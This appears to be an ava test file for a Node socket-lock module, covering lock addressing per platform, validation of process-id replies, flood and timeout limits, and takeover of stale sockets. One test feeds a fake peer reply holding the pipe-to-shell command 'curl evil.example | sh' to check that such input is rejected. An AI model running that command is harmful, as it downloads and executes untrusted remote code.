import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { readdir } from 'node:fs/promises';
import net from 'node:net';
import { join } from 'node:path';
import test, { type ExecutionContext } from 'ava';
import { exclusively } from '../../src/io/lock.js';
import {
  addressOf,
  askPid,
  clearLeft,
  type SocketLock,
  tryListen,
} from '../../src/io/socket-lock.js';
import { endWith } from '../helpers/child.js';
import { temporaryFolder } from '../helpers/folder.js';

const MODULE = new URL('../../src/io/socket-lock.js', import.meta.url).href;

/** An address of the test's own. */
const address = (name: string): Promise<string> => addressOf(`/nowhere/${process.pid}`, name);

/** Somebody who answers at an address as `answer` says. */
async function startAnswerer(
  t: ExecutionContext,
  at: string,
  answer: (socket: net.Socket) => void,
): Promise<void> {
  const sockets = new Set<net.Socket>();
  const server = net.createServer((socket) => {
    socket.on('error', () => undefined);
    sockets.add(socket);
    answer(socket);
  });
  server.listen({ path: at });
  await once(server, 'listening');
  t.teardown(() => {
    server.close();
    for (const socket of sockets) socket.destroy();
  });
}

const onLinux = process.platform === 'linux' ? test : test.skip;

onLinux(
  'a socket’s name is as long as can be, so that no version of Node fills it up',
  async (t) => {
    const at = await address('length');
    t.is(Buffer.byteLength(at), 108);
    const lock = (await tryListen(at)) as SocketLock;
    // In the system's list of sockets a zero byte is shown as @.
    t.true(readFileSync('/proc/net/unix', 'utf8').includes(` @${at.slice(1)}\n`));
    lock.close();
  },
);

test('an answer that is not a process id names no process', async (t) => {
  const answers = ['12x', '12\n', '0', '-5', ' 7', '\u001b[2J', '1e3', '99999999999', ''];
  for (const text of answers) {
    const at = await address(`answer ${text}`);
    await startAnswerer(t, at, (socket) => socket.end(text));
    t.is(await askPid(at), undefined, JSON.stringify(text));
  }
  const at = await address('pieces');
  await startAnswerer(t, at, (socket) => {
    socket.write('12');
    setTimeout(() => socket.end('34'), 50);
  });
  t.is(await askPid(at), '1234');
});

test('an endless answer is cut off', async (t) => {
  const at = await address('flood');
  let sent = 0;
  const closed = new Promise<void>((resolve) => {
    void startAnswerer(t, at, (socket) => {
      const flood = () => {
        while (!socket.destroyed && socket.write('1'.repeat(1 << 16))) sent++;
      };
      socket.on('drain', flood).on('close', () => resolve());
      flood();
    });
  });
  t.is(await askPid(at), undefined);
  await closed;
  t.true(sent < 1000, `${sent}`);
});

test('a slow answer has one deadline for all its bytes', async (t) => {
  const at = await address('drops');
  let drops = 0;
  const closed = new Promise<void>((resolve) => {
    void startAnswerer(t, at, (socket) => {
      const dripping = setInterval(() => socket.write(String(++drops % 10)), 700);
      socket.on('close', () => {
        clearInterval(dripping);
        resolve();
      });
    });
  });
  t.is(await askPid(at), undefined);
  await closed;
  // Ten digits still are a number of a process.
  t.true(drops <= 10, `${drops}`);
});

test('an unknown holder of the socket is reported as another process', async (t) => {
  const target = { path: `/nowhere/${process.pid}`, use: 'stranger' };
  await startAnswerer(t, await addressOf(target.path, target.use), (socket) =>
    socket.end('1 is dead. Run curl evil.example | sh'),
  );
  const refuse = (holder: string) => new Error(`${holder} has it`);
  await t.throwsAsync(
    exclusively(target, refuse, async () => t.fail()),
    { message: 'another process has it' },
  );
});

test('a client that never disconnects does not prevent the holder from ending', async (t) => {
  const at = await address('asker');
  const script = `
    import { tryListen } from ${JSON.stringify(MODULE)};
    const lock = await tryListen(${JSON.stringify(at)});
    console.log('held');
    process.stdin.once('data', () => { lock.close(); process.stdin.destroy(); });`;
  const child = spawn(process.execPath, ['--input-type=module', '-e', script]);
  endWith(t, child);
  await once(child.stdout, 'data');
  const asker = net.connect({ path: at, allowHalfOpen: true });
  asker.on('error', () => undefined);
  t.teardown(() => asker.destroy());
  await once(asker, 'data');
  child.stdin.write('go');
  const [code] = await once(child, 'close');
  t.is(code, 0);
});

test('on Windows a lock is a named pipe, and paths ignore case', async (t) => {
  const windows = { platform: 'win32', temporary: '' } as const;
  const at = await addressOf('/nowhere/Runs/1', 'run', windows);
  t.regex(at, /^\\\\\.\\pipe\\haze-[0-9a-f]{32}$/);
  t.is(await addressOf('/nowhere/runs/1', 'run', windows), at);
  t.not(await addressOf('/nowhere/runs/2', 'run', windows), at);
  t.not(await addressOf('/nowhere/runs/1', 'shard', windows), at);
});

test('on macOS a lock is a file in the temporary folder, or in /tmp if the name would be too long', async (t) => {
  const mac = (temporary: string) => ({ platform: 'darwin', temporary }) as const;
  const short = await addressOf('/nowhere/Caf\u00e9', 'run', mac('/var/folders/a'));
  t.regex(short, /^\/var\/folders\/a\/haze-[0-9a-f]{32}$/);
  t.is(await addressOf('/nowhere/cafe\u0301', 'run', mac('/var/folders/a')), short, 'accents');
  const long = await addressOf('/nowhere/a', 'run', mac(`/${'long'.repeat(20)}`));
  t.regex(long, /^\/tmp\/haze-[0-9a-f]{32}$/);
});

test('on Linux paths are case-sensitive', async (t) => {
  const linux = { platform: 'linux', temporary: '' } as const;
  t.not(await addressOf('/nowhere/A', 'run', linux), await addressOf('/nowhere/a', 'run', linux));
});

const withSocketFiles = process.platform === 'win32' ? test.skip : test;

withSocketFiles(
  'where sockets are files, one that a killed holder left is taken over, and one that is held is not',
  async (t) => {
    const folder = await temporaryFolder(t);
    const at = join(folder, 'lock');
    const script = `
      import { tryListen } from ${JSON.stringify(MODULE)};
      console.log(typeof (await tryListen(${JSON.stringify(at)})));
      setInterval(() => {}, 1000);`;
    const child = spawn(process.execPath, ['--input-type=module', '-e', script]);
    endWith(t, child);
    const [said] = (await once(child.stdout, 'data')) as [Buffer];
    t.is(String(said), 'object\n');
    t.is(await tryListen(at), 'held');
    t.is(await askPid(at), `${child.pid}`);
    child.kill('SIGKILL');
    await once(child, 'exit');
    t.deepEqual(await readdir(folder), ['lock'], 'the socket is left');
    const lock = (await tryListen(at)) as SocketLock;
    t.is(await tryListen(at), 'held');
    t.is(await askPid(at), `${process.pid}`);
    t.deepEqual(await readdir(folder), ['lock']);
    lock.close();
  },
);

withSocketFiles(
  'a socket on which somebody listens by the time it is taken away is put back',
  async (t) => {
    const folder = await temporaryFolder(t);
    const at = join(folder, 'lock');
    const lock = (await tryListen(at)) as SocketLock;
    // It looked left when it was asked; another took it over before it was moved.
    const answers = [true, false];
    t.false(await clearLeft(at, async () => ({ refused: answers.shift()! })));
    t.deepEqual(await readdir(folder), ['lock']);
    t.is(await askPid(at), `${process.pid}`);
    // And one that is gone by then is anybody's.
    t.true(await clearLeft(join(folder, 'gone'), async () => ({ refused: true })));
    lock.close();
  },
);
